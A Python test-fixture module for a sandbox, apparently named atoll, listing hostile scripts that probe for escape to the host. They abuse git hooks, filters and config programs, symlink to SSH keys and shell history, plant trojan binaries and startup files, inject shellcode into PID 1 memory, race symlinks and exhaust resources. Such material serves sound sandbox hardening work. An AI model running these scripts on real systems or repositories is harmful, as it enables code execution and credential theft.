"""What hostile capsules are made of: shell scripts that run inside, by kind.

Each script runs by `bash` in the workspace, in a subshell of its own, and may fail. It knows
`$OWNER` (the owner's HOME on the host), `$SIBLING` (another project of the owner) and `$TOKEN`
(unique for the case). `$P` is a command that writes the file `$MARKER` on the host, whose directory
does not exist inside: when that file appears, the command ran outside.
"""

# ruff: noqa: E501 - these are shell scripts, and a broken line would be another script

from __future__ import annotations

PROGRAMS = "git cp mv rm unshare nsenter sh bash python3 python bwrap tar rsync find env cat strace"

GIT_CONFIG = {
    "config-fsmonitor": 'git config core.fsmonitor "$P; false"; git config core.untrackedCache true',
    "config-hooks": """
mkdir -p .git/h .git/hooks
for h in pre-commit commit-msg post-commit post-checkout reference-transaction post-index-change \
         pre-auto-gc update pre-receive post-merge post-rewrite proc-receive push-to-checkout; do
  printf '#!/bin/sh\\n%s\\n' "$P" | tee .git/hooks/$h >.git/h/$h; chmod +x .git/h/$h .git/hooks/$h
done
git config core.hooksPath "$PWD/.git/h"
""",
    "config-filter-clean": """
git config filter.e.clean "$P; cat"; git config filter.e.smudge "$P; cat"
git config filter.e.required true
mkdir -p .git/info; echo '* filter=e' >>.git/info/attributes
echo more >>README; touch -d '+20 sec' README
""",
    "config-filter-process": """
git config filter.p.process "$P; cat"; git config filter.p.required true
echo '*.txt filter=p' >>.gitattributes; echo text >process.txt
""",
    "config-diff": """
git config diff.external "$P; true"; git config diff.e.textconv "$P; cat"
git config diff.e.command "$P; true"; git config diff.e.cachetextconv true
mkdir -p .git/info; echo '* diff=e' >>.git/info/attributes; echo x >>README
""",
    "config-programs": """
for key in core.sshCommand core.pager core.editor sequence.editor gpg.program core.askPass \
           gpg.ssh.program gpg.x509.program interactive.diffFilter uploadpack.packObjectsHook \
           merge.e.driver trailer.x.command core.gitProxy remote.origin.uploadpack diff.guitool; do
  git config $key "$P; cat"
done
git config commit.gpgSign true; git config tag.gpgSign true; git config log.showSignature true
git config credential.helper "!$P"; git config pager.diff "$P"; git config pager.log "$P"
for verb in status diff log rev-parse commit add; do git config alias.$verb "!$P"; done
""",
    "config-promisor": """
git config core.repositoryformatversion 1; git config extensions.partialClone o
git config remote.o.url "$PWD"; git config remote.o.promisor true
git config remote.o.uploadpack "$P; false"; git config core.sshCommand "$P; false"
rm -f .git/objects/??/*
""",
    "config-include": """
git config --add include.path "$OWNER/.ssh/id_rsa"; git config --add include.path /proc/self/environ
git config --add includeIf.gitdir:/.path "$SIBLING/.git/config"
""",
    "config-include-fifo": 'mkfifo .git/pipe; printf "[include]\\n\\tpath = pipe\\n" >>.git/config',
    "config-worktree": 'git config core.worktree "$OWNER"',
    "config-encoding": "git config i18n.commitEncoding IBM037; echo x >encoded",
    "config-log-encoding": "git config i18n.logOutputEncoding UTF-16; echo x >encoded2",
    "config-forged-point": r"""
/usr/bin/python3 - "$OWNER" <<'END'
import subprocess, sys
# Git decodes a whole commit, headers too: what is ASCII becomes noise, what is EBCDIC is read.
base = subprocess.check_output(["git", "rev-parse", "HEAD"], text=True).strip()
lines = ["", "committer e <e@x> 3999999999 +0000", "", "atoll: recovery point x", "",
         "Atoll-Capsule: bystander", "Atoll-Base: " + base, "Atoll-Head: " + base,
         "Atoll-Index: --index-output=%s/forged" % sys.argv[1],
         "Atoll-Files: \x1b]0;forged\x07/forged", ""]
body = b"IBM037\n" + "\n".join(lines).encode("cp037")
escaped = body.replace(b"\\", b"\\\\").replace(b'"', b'\\"').replace(b"\n", b"\\n")
with open(".git/config", "ab") as file:
    file.write(b'[i18n]\n\tcommitEncoding = "' + escaped + b'"\n')
END
echo staged >staged; git add staged; echo unstaged >>staged; echo work >work
""",
    "config-per-worktree": """
git config extensions.worktreeConfig true
printf '[core]\\n\\tfsmonitor = "%s"\\n\\tbare = true\\n' "$P; false" >.git/config.worktree
""",
    "config-bare": "git config core.bare true",
    "config-format": "git config core.repositoryformatversion 99",
    "config-sha256": "git config extensions.objectFormat sha256",
    "config-garbage": 'printf "[[[\\0\\377\\n" >>.git/config',
    "config-huge": 'head -c 30000000 /dev/zero | tr "\\0" "#" >>.git/config',
    "config-odd": """
git config core.quotePath false; git config color.ui always; git config status.branch true
git config core.abbrev 4; git config diff.noprefix true; git config core.fileMode false
git config diff.ignoreSubmodules all; git config core.ignoreCase true; git config core.autocrlf true
git config core.excludesFile "$PWD/.ex"; echo '*' >.ex; git config core.logAllRefUpdates false
""",
    "home-gitconfig": 'printf "[core]\\n\\tfsmonitor = \\"%s\\"\\n" "$P" >~/.gitconfig',
}

OBJECTS = {
    "objects-names": r"""
b=$(echo data | git hash-object -w --stdin)
tree() { /usr/bin/python3 -c '
import sys
for mode, name in zip(sys.argv[2::2], sys.argv[3::2]):
    sys.stdout.buffer.write(mode.encode() + b" " + name.encode() + b"\0" + bytes.fromhex(sys.argv[1]))
' "$b" "$@" | git hash-object -w --literally -t tree --stdin; }
t=$(tree 100644 "$OWNER/.bash_history" 100644 ../../out 100644 .git 100644 .. 120000 $'a\nb' \
         100644 $'\e]0;x\a' 100644 -rf 100755 a/b/c 160000 /etc)
git update-ref "$(git symbolic-ref HEAD)" "$(git commit-tree "$t" -p HEAD -m literal)"
""",
    "objects-gitlink": r"""
U=$(grep -o 'upperdir=u[0-9a-f]*' /proc/self/mountinfo|head -1|cut -d= -f2)
O=$(grep -o ' [^ ]*/inside/objects ' /proc/self/mountinfo|head -1|tr -d ' ')
H=${O%/inside/objects}/layers/$U/tree/tmp/evil
git init -q /tmp/evil
printf '[core]\nrepositoryformatversion=1\n[extensions]\npartialClone=o\n[remote "o"]\nurl=%s\npromisor=true\nuploadpack="%s;false"\n' \
  "$H" "$P" >/tmp/evil/.git/config
T=$( (printf '160000 %s\0' "$H"; printf '\x11%.0s' $(seq 20); git cat-file tree 'HEAD^{tree}') |
  git hash-object -w --literally -t tree --stdin)
C=$(git commit-tree "$T" -p HEAD -m x)
printf '#!/bin/sh\ncat\necho %s > %s/.git/%s\n' "$C" "$PWD" "$(git symbolic-ref HEAD)" >/tmp/f.sh
chmod +x /tmp/f.sh; git config filter.e.clean /tmp/f.sh
mkdir -p .git/info; echo 'README filter=e' >.git/info/attributes; touch -d '+20 sec' README
""",
    "objects-nested": """
git init -q nested; (cd nested; echo n >n; git add n; git commit -qm n; git config core.fsmonitor "$P")
git add nested; mkdir empty; git init -q empty; printf 'gitdir: %s/.git\\n' "$SIBLING" >nested2.git
mkdir linked; printf 'gitdir: %s/.git\\n' "$SIBLING" >linked/.git
printf '[submodule "nested"]\\n\\tpath = nested\\n\\turl = %s\\n\\tupdate = !%s\\n' "$SIBLING" "$P" >.gitmodules
""",
    "objects-bomb": r"""
b=$(head -c 300000000 /dev/zero | git hash-object -w --stdin)
git update-index --add --cacheinfo "100644,$b,bomb"; git commit -qm bomb
""",
    "objects-lying-size": r"""
/usr/bin/python3 -c '
import zlib, os
os.makedirs(".git/objects/ab", exist_ok=True)
body = zlib.compress(b"blob 99999999999999\0x")
open(".git/objects/ab/" + "c" * 38, "wb").write(body)
'
git update-index --add --cacheinfo "100644,ab$(printf 'c%.0s' $(seq 38)),lying" --info-only
""",
    "objects-truncated": r"""
echo some >some; git add some; git commit -qm some
find .git/objects -type f -name '[0-9a-f]*' | head -3 | while read f; do chmod +w "$f"; : >"$f"; done
""",
    "objects-bad-pack": r"""
mkdir -p .git/objects/pack; n=pack-$(printf '1%.0s' $(seq 40))
printf 'PACK\0\0\0\2\377\377\377\377' >.git/objects/pack/$n.pack
printf '\377tOc\0\0\0\2' >.git/objects/pack/$n.idx; head -c 2000 /dev/urandom >>.git/objects/pack/$n.idx
""",
    "objects-replace": r"""
old=$(git rev-parse HEAD); t=$(git mktree </dev/null)
git replace "$old" "$(git commit-tree "$t" -m fake)"; echo hidden >hidden
""",
    "objects-grafts": r"""
mkdir -p .git/info; echo "$(git rev-parse HEAD)" >.git/info/grafts; git rev-parse HEAD >.git/shallow
""",
    "objects-alternates": r"""
mkdir -p .git/objects/info; printf '%s\n/proc/self/cwd\n' "$SIBLING/.git/objects" >>.git/objects/info/alternates
""",
    "objects-alternates-fifo": "rm -f .git/objects/info/alternates; mkfifo .git/objects/info/alternates",
    "objects-alternates-lost": "rm -f .git/objects/info/alternates",
}

REFS = {
    "refs-links": 'ln -s "$OWNER/.ssh/id_rsa" .git/refs/heads/key; ln -s "$SIBLING/.git/refs" .git/refs/all',
    "refs-fifo": "mkfifo .git/refs/heads/pipe",
    "refs-huge": "head -c 20000000 /dev/zero >.git/refs/heads/huge",
    "refs-names": r"""
h=$(git rev-parse HEAD); printf "%s\n" "$h" | tee ".git/refs/heads/$(printf '\033]0;x\007')" \
  .git/refs/heads/-rf ".git/refs/heads/$(printf 'a\nb')" ".git/refs/heads/$(printf '\377')" >/dev/null
""",
    "refs-loop": 'b=$(git symbolic-ref HEAD); echo "ref: refs/heads/l2" >.git/refs/heads/l1; echo "ref: refs/heads/l1" >.git/refs/heads/l2; echo "ref: refs/heads/l1" >.git/$b',
    "refs-many": 'h=$(git rev-parse HEAD); for i in $(seq 4000); do echo "$h refs/heads/n$i"; done >.git/packed-refs',
    "refs-packed-garbage": "head -c 5000 /dev/urandom >.git/packed-refs",
    "refs-head-link": 'rm .git/HEAD; ln -s "$OWNER/.ssh/id_rsa" .git/HEAD',
    "refs-head-fifo": "rm .git/HEAD; mkfifo .git/HEAD",
    "refs-head-huge": "head -c 20000000 /dev/zero >.git/HEAD",
    "refs-head-escape": 'echo "ref: refs/heads/../../../../../owner/.ssh/id_rsa" >.git/HEAD',
    "refs-logs": 'rm -rf .git/logs; ln -s "$OWNER/.ssh" .git/logs',
}

INDEX = {
    "index-flags": """
git update-index --assume-unchanged README; echo changed >>README
echo '*' >.git/info/exclude; echo hidden >hidden
""",
    "index-skip": "git update-index --skip-worktree README; rm README; git config core.sparseCheckout true",
    "index-split": "git update-index --split-index; echo s >split; git add split",
    "index-garbage": "head -c 3000 /dev/urandom >.git/index",
    "index-link": 'rm -f .git/index; ln -s "$OWNER/.bash_history" .git/index',
    "index-fifo": "rm -f .git/index; mkfifo .git/index",
    "index-lock": "mkdir .git/index.lock; touch .git/HEAD.lock .git/config.lock .git/packed-refs.lock",
    "attributes": """
printf '* text eol=crlf ident export-subst\\n*.bin working-tree-encoding=UTF-16 diff merge=e\\n' >.gitattributes
printf '\\377\\376a' >x.bin; ln -s "$OWNER/.ssh/id_rsa" src-attributes; mkdir -p sub; ln -s "$OWNER/.ssh/id_rsa" sub/.gitattributes
""",
    "excludes": "printf '*\\n!README\\n' >.gitignore; ln -sf /proc/self/environ .git/info/exclude; echo y >y",
}

GIT_DIRECTORY = {
    "gitdir-link": 'rm -rf .git; ln -s "$SIBLING/.git" .git',
    "gitdir-file": "rm -rf .git; printf 'gitdir: %s/.git\\n' \"$SIBLING\" >.git",
    "gitdir-fifo": "rm -rf .git; mkfifo .git",
    "gitdir-gone": "rm -rf .git",
    "gitdir-commondir": 'echo "$SIBLING/.git" >.git/commondir',
    "gitdir-config-fifo": "rm .git/config; mkfifo .git/config",
    "gitdir-config-link": 'rm .git/config; ln -s "$OWNER/.ssh/id_rsa" .git/config',
    "gitdir-objects-link": 'rm -rf .git/objects; ln -s "$SIBLING/.git/objects" .git/objects',
    "gitdir-refs-link": 'rm -rf .git/refs; ln -s "$SIBLING/.git/refs" .git/refs',
    "gitdir-pack-link": 'rm -rf .git/objects/pack; ln -s "$OWNER/.ssh" .git/objects/pack',
    "gitdir-own": "rm -rf .git; git init -q .; git add -A; git commit -qm own",
}

FILES = {
    "files-links": """
ln -s "$OWNER/.ssh/id_rsa" key; ln -s "$OWNER" home; ln -s / root; ln -s ../../../.. up; ln -s loop loop
rm -f app.py; ln -s "$OWNER/.bash_history" app.py; rm -rf src; ln -s "$SIBLING" src
""",
    "files-special": """
rm -f README; mkfifo README; mkfifo pipe
/usr/bin/python3 -c 'import socket; socket.socket(socket.AF_UNIX).bind("socket")'
""",
    "files-names": r"""
touch -- "$(printf 'new\nline')" "$(printf 'esc\033]0;owned\007')" -rf --help "$(printf 'bad\377')" \
  "$(printf 'n%.0s' $(seq 255))" "$(printf 'rtl\342\200\256txt')" ' ' ':(glob)**' '$(id)' '`id`' 'a"b'
mkdir -p -- "$(printf 'dir\033[2J')/..." ; touch "$(printf 'dir\033[2J')/.../x"
""",
    "files-modes": "echo s >closed; chmod 000 closed; mkdir shut; echo t >shut/t; chmod 000 shut; cp /usr/bin/id suid; chmod 6755 suid; chmod 1777 .",
    "files-deep": r"""
/usr/bin/python3 -c '
import os
for n in range(1200):
    os.mkdir("d" * 20); os.chdir("d" * 20)
open("bottom", "w").close()
'
""",
    "files-sparse": "truncate -s 200G sparse; truncate -s 200G /tmp/sparse",
    "files-hard-links": 'echo h >h0; for i in $(seq 300); do ln h0 "h$i"; done; ln README hard; ln .git/HEAD head',
    "files-many": "mkdir many; cd many; seq 3000 | xargs touch",
    "files-xattrs": r"""
/usr/bin/python3 -c '
import os
for path in (".", "/tmp", "README", ".git"):
    for name in ("overlay.redirect", "overlay.opaque", "overlay.origin", "overlay.metacopy", "any"):
        try:
            os.setxattr(path, "user." + name, b"/../../../owner")
        except OSError:
            pass
'
chmod 000 README
""",
    "files-moved": "mkdir moved; echo m >moved/m; mv src src2; mv src2 moved/src; mkdir src; echo new >src/calc.py",
    "files-case": "mkdir .GIT; echo x >.GIT/config; mkdir 'GIT~1'; touch 'git~1/x' || true",
    "files-cleared": "rm -rf ./* .gitignore",
    "files-redirect-home": 'rm -rf ~/.cache ~/.config; ln -s "$OWNER/.ssh" ~/.config; ln -s / ~/.cache; ln -s "$OWNER" /tmp/owner',
}

PLANTED = {
    "planted-programs": f"""
for d in .venv/bin node_modules/.bin bin ~/.local/bin ~/bin /tmp; do
  mkdir -p "$d"
  for n in {PROGRAMS}; do
    printf '#!/bin/sh\\n%s\\nexec /usr/bin/%s "$@"\\n' "$P" "$n" >"$d/$n"; chmod +x "$d/$n"
  done
done
""",
    "planted-closed": """
for n in cp unshare; do
  mkdir -p .venv/bin; printf '#!/bin/sh\\n%s\\nexec /usr/bin/%s "$@"\\n' "$P" "$n" >.venv/bin/$n
  chmod +x .venv/bin/$n
done
echo closed >closed; chmod 000 closed; git init -q inner; echo i >inner/i
/usr/bin/python3 -c 'import os; os.setxattr("/tmp", "user.overlay.redirect", b"/x")'
""",
    "planted-startup": """
for f in sitecustomize.py usercustomize.py json.py atoll.py click.py; do
  printf 'import os\\nos.system("%s")\\n' "$P" >$f
done
printf '%s\\n' "$P" | tee ~/.bashrc ~/.profile ~/.bash_profile >~/.zshenv
printf '[alias]\\n' >~/.gitconfig; echo "use flake; $P" >.envrc; printf '[env]\\nX="1"\\n' >atoll.toml
""",
    "venv-links": """
rm -rf .venv; mkdir .venv; ln -s /usr/bin .venv/bin; ln -s /usr/lib .venv/lib
ln -s /usr/lib .venv/lib64; ln -s "$OWNER" .venv/include; ln -s "$OWNER" .venv/share
""",
    "venv-config": r"""
rm -rf .venv; mkdir -p .venv/bin py/bin py/lib/python3.11
printf 'home = py/bin\n' >.venv/pyvenv.cfg; cp /usr/bin/true py/bin/python3.11; touch py/lib/python3.11/os.py
ln -s ../../py/bin/python3.11 .venv/bin/python; ln -s / py/share; ln -s "$OWNER" py/include
""",
}

FLOODS = {
    "flood-errors": """
git config filter.f.clean "head -c 700000000 /dev/zero | tr '\\0' e >&2; cat"
mkdir -p .git/info; echo 'app.py filter=f' >>.git/info/attributes; touch -d '+30 sec' app.py
""",
    "flood-run-output": "head -c 3000000 /dev/urandom; printf '\\033]0;owned\\007\\033[2J\\n'",
}

LIVES = {
    "lives-filter": """
git config filter.l.clean "setsid sleep 86399.$TOKEN </dev/null >/dev/null 2>&1 & cat"
mkdir -p .git/info; echo 'calc.py filter=l' >>.git/info/attributes; touch -d '+40 sec' src/calc.py
""",
    "lives-init": r"""
cat >/tmp/init.py <<'END'
# Makes PID 1 of a sandbox forget its parent, report success and stay, with a process below it.
import os, struct, sys
events = [n for n in os.listdir("/proc/1/fd") if "eventfd" in os.readlink("/proc/1/fd/" + n)]
words = open("/proc/1/syscall").read().split()
code = bytes.fromhex("bf0100000031f6b89d0000000f05")
for number in events:
    code += b"\x6a\x01\x48\x89\xe6\xbf" + struct.pack("<I", int(number))
    code += bytes.fromhex("ba08000000b8010000000f05")
code += bytes.fromhex("b8220000000f05ebf7")
memory = os.open("/proc/1/mem", os.O_RDWR)
os.pwrite(memory, code, int(words[-1], 16))
if os.fork() == 0:
    os.setsid()
    null = os.open("/dev/null", os.O_RDWR)
    for fd in range(3):
        os.dup2(null, fd)
    os.closerange(3, 100)
    os.execv("/usr/bin/sleep", ["sleep", sys.argv[1]])
END
git config filter.i.clean "/usr/bin/python3 -I -S /tmp/init.py 86398.$TOKEN 2>>/tmp/init.log; cat"
mkdir -p .git/info; echo '.gitignore filter=i' >>.git/info/attributes; touch -d '+50 sec' .gitignore
""",
}

INSIDE = {
    **GIT_CONFIG, **OBJECTS, **REFS, **INDEX, **GIT_DIRECTORY, **FILES, **PLANTED, **FLOODS, **LIVES
}  # fmt: skip
COSTLY = frozenset({"flood-errors", "objects-bomb", "config-huge", "lives-init"})
"""Take seconds: in random cases they are rare."""

RACER = r"""
import ctypes, os, signal, sys, time
owner, size = sys.argv[1], int(sys.argv[2])
libc = ctypes.CDLL(None, use_errno=True)


class Event(ctypes.Structure):
    _fields_ = [("value", ctypes.c_void_p), ("signo", ctypes.c_int), ("notify", ctypes.c_int),
                ("rest", ctypes.c_byte * 48)]


class Time(ctypes.Structure):
    _fields_ = [("is", ctypes.c_long), ("in", ctypes.c_long), ("vs", ctypes.c_long),
                ("vn", ctypes.c_long)]


signal.signal(signal.SIGCONT, lambda *_: None)
for number in range(64):
    timer, event = ctypes.c_void_p(), Event(signo=signal.SIGCONT)
    if libc.timer_create(1, ctypes.byref(event), ctypes.byref(timer)) == 0:
        libc.timer_settime(timer, 0, ctypes.byref(Time(0, 64000000, 0, 1000000 * (number + 1))), None)
os.makedirs("p", exist_ok=True)
for name in ("b1", "b2", "b3"):
    with open("p/" + name, "wb") as file:
        file.write(os.urandom(4096) + bytes(size if name == "b3" else 0))
for name in ("id_rsa", "key"):
    with open("p/" + name, "w") as file:
        file.write("mine")
os.path.lexists("q") or os.symlink(owner + "/.ssh", "q")
os.path.lexists("plain") or open("plain", "w").write("mine")
os.path.lexists("link") or os.symlink(owner + "/.ssh/id_rsa", "link")
print("ready", flush=True)
while True:
    for one, two in ((b"p", b"q"), (b"plain", b"link")):
        libc.syscall(316 if os.uname().machine == "x86_64" else 276, -100, one, -100, two, 2)
    with open("counter", "w") as file:
        file.write(str(time.monotonic()))
"""
DAEMON = (
    "import os, time\nif os.fork(): os._exit(0)\nos.setsid()\nif os.fork(): os._exit(0)\n"
    "os.execv('/usr/bin/sleep', ['sleep', '86397.' + os.environ.get('TOKEN', '')])\n"
)

CHECKOUT = {
    "clone-venv": {
        ".venv/pyvenv.cfg": "home = py/bin\n",
        "py/bin/python3.11": "#!/bin/sh\n",
        "py/lib/python3.11/os.py": "",
        "py/include": "-> {owner}",
    },
    "clone-venv-root": {
        ".venv/pyvenv.cfg": "home = py/bin\n",
        "py/bin/python3.11": "#!/bin/sh\n",
        "py/lib/python3.11/os.py": "",
        "py/share": "-> /",
    },
    "clone-venv-relative": {
        ".venv/pyvenv.cfg": "home = {relative}/bin\n",
        "{relative}/bin": "-> /usr/bin",
        "{relative}/lib/python3.11/os.py": "",
        "{relative}/share/x": "",
    },
    "clone-links": {"home": "-> {owner}", "keys": "-> {owner}/.ssh", "up": "-> ../../.."},
    "clone-programs": {f"{d}/{n}": "#!/bin/sh\nid > {marker}\nexec /usr/bin/" + n + ' "$@"\n'
                       for d in ("bin", "node_modules/.bin") for n in ("git", "bwrap", "sh", "python3")},
    "clone-attributes": {".gitattributes": "* filter=e diff=e\n", ".gitmodules":
                         '[submodule "s"]\n\tpath = s\n\turl = {sibling}\n\tupdate = !id > {marker}\n'},
    "clone-settings": {"mise.toml": "[env]\nX = \"{{{{exec(command='id > {marker}')}}}}\"\n",
                       ".tool-versions": "python path:{owner}\nnodejs ref:../../..\n",
                       ".envrc": "id > {marker}\n", ".python-version": "../../../..{owner}\n",
                       ".nvmrc": "../../..{owner}\n"},
}  # fmt: skip
"""Files of a repository that was cloned: path -> content, or `-> target` of a link."""
